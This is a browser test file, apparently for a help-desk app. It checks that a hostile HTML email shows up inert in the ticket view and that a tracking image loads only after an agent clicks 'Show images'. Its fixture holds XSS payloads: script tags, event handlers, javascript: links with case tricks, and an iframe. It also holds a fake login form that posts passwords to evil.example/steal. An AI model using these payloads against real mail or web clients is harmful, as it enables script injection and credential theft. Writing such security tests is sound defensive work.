import { randomUUID } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { endpoints, inSession, mailSupport, screenshot, signIn, skipReason, ticketFrom, uniqueEmail, useBrowser } from './browser.ts';

// A browser global, used inside page.evaluate (the project's typecheck has no DOM library).
declare const document: any;

/** A 1×1 transparent PNG, served for the "remote" image once the agent asks for it. */
const PIXEL = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');

/**
 * A hostile HTML mail, sent by SMTP as any stranger could, is shown inert in
 * the ticket view: nothing runs, no script or handler reaches the DOM,
 * javascript: links are gone, and the remote image (a read tracker) is not
 * fetched until the agent asks for images.
 */
describe.skipIf(skipReason)('hostile mail', () => {
  const browser = useBrowser();

  it('shows an XSS mail inert, with the remote image held back until "Show images"', async () => {
    const from = uniqueEmail('xss');
    const tag = randomUUID().slice(0, 8);
    const subject = `Invoice overdue ${tag}`;
    const tracker = `https://tracker.example/pixel-${tag}.png`;
    const html = [
      '<p>Hello <b>support</b>, please see <i>the invoice</i> below.</p>',
      `<script>alert('xss-script-${tag}')</script>`,
      `<img src="x" onerror="alert('xss-onerror-${tag}')" alt="broken">`,
      `<p onmouseover="alert('xss-hover-${tag}')" onclick="alert('xss-click-${tag}')">Hover or click this paragraph</p>`,
      `<a href="javascript:alert('xss-link-${tag}')">Open the invoice</a>`,
      `<a href="JaVaScRiPt:alert('xss-link2-${tag}')">Second link</a>`,
      `<a href="https://example.com/terms">Our terms</a>`,
      `<svg onload="alert('xss-svg-${tag}')"><circle r="5"></circle></svg>`,
      `<iframe src="javascript:alert('xss-iframe-${tag}')"></iframe>`,
      `<form action="https://evil.example/steal"><input name="password" placeholder="Password"><button>Log in</button></form>`,
      `<img src="${tracker}" alt="tracking pixel">`,
      '<p>Regards, Mallory</p>',
    ].join('\n');

    await mailSupport({ from: `Mallory <${from}>`, subject, text: 'Hello support, please see the invoice below.', html });
    const ticket = await ticketFrom(from);

    await inSession(browser(), 'xss', async ({ page }) => {
      const dialogs: string[] = [];
      page.on('dialog', (d) => {
        dialogs.push(d.message());
        void d.dismiss();
      });
      const trackerRequests: string[] = [];
      page.on('request', (r) => {
        if (r.url().includes('tracker.example') || r.url().includes('evil.example')) trackerRequests.push(r.url());
      });
      await page.route('https://tracker.example/**', (route) => route.fulfill({ status: 200, contentType: 'image/png', body: PIXEL }));

      await signIn(page);
      await page.goto(`${endpoints.dashboardUrl}/tickets/${ticket.id}`);
      await page.getByRole('heading', { level: 1, name: subject }).waitFor();
      const mail = page.getByRole('region', { name: 'Conversation' }).getByRole('article').first();
      await mail.getByText('Regards, Mallory').waitFor();
      await mail.getByText('Hello support').waitFor();

      // Touch what a victim would touch.
      await mail.getByText('Hover or click this paragraph').hover();
      await mail.getByText('Hover or click this paragraph').click();
      await mail.getByText('Open the invoice').click();
      await mail.getByText('Second link').click();

      // Nothing from the mail is in the DOM that could run.
      const found = await page.evaluate((marker) => {
        const all = [...document.querySelectorAll('*')];
        return {
          scripts: [...document.querySelectorAll('script')].filter((s) => (s.textContent ?? '').includes(marker) || (s.getAttribute('src') ?? '').startsWith('data:')).length,
          handlers: all.filter((el) => [...el.attributes].some((a) => a.name.toLowerCase().startsWith('on'))).map((el) => el.outerHTML.slice(0, 120)),
          jsUrls: all.filter((el) => [...el.attributes].some((a) => /^\s*javascript:/i.test(a.value))).map((el) => el.outerHTML.slice(0, 120)),
          frames: document.querySelectorAll('iframe, frame, object, embed, svg foreignObject').length,
          forms: [...document.querySelectorAll('form')].filter((f) => (f.getAttribute('action') ?? '').includes('evil')).length,
          imgSrcs: [...document.querySelectorAll('img')].map((i) => i.getAttribute('src')),
        };
      }, tag);
      expect(found.scripts).toBe(0);
      expect(found.handlers).toEqual([]);
      expect(found.jsUrls).toEqual([]);
      expect(found.frames).toBe(0);
      expect(found.forms).toBe(0);
      expect(found.imgSrcs).not.toContain(tracker);
      expect(await mail.getByRole('textbox', { name: 'Password' }).count()).toBe(0);

      // The javascript: links are no longer links; the https one is, opening safely.
      expect(await mail.getByRole('link', { name: 'Open the invoice' }).count()).toBe(0);
      expect(await mail.getByRole('link', { name: 'Second link' }).count()).toBe(0);
      const terms = mail.getByRole('link', { name: 'Our terms' });
      expect(await terms.getAttribute('href')).toBe('https://example.com/terms');
      expect(await terms.getAttribute('rel')).toContain('noopener');

      // The remote image waits for the agent.
      const show = mail.getByRole('button', { name: /^Show images \(1\)$/ });
      await show.waitFor();
      await mail.getByText('Remote images are hidden so the sender cannot tell the mail was read.').waitFor();
      expect(trackerRequests).toEqual([]);
      await screenshot(page, '06-xss-mail');

      const fetched = page.waitForRequest((r) => r.url() === tracker);
      await show.click();
      await fetched;
      await mail.getByRole('img', { name: 'tracking pixel' }).waitFor();
      expect(await show.count()).toBe(0);
      expect(trackerRequests).toEqual([tracker]);

      expect(dialogs).toEqual([]);
    });
  });
});
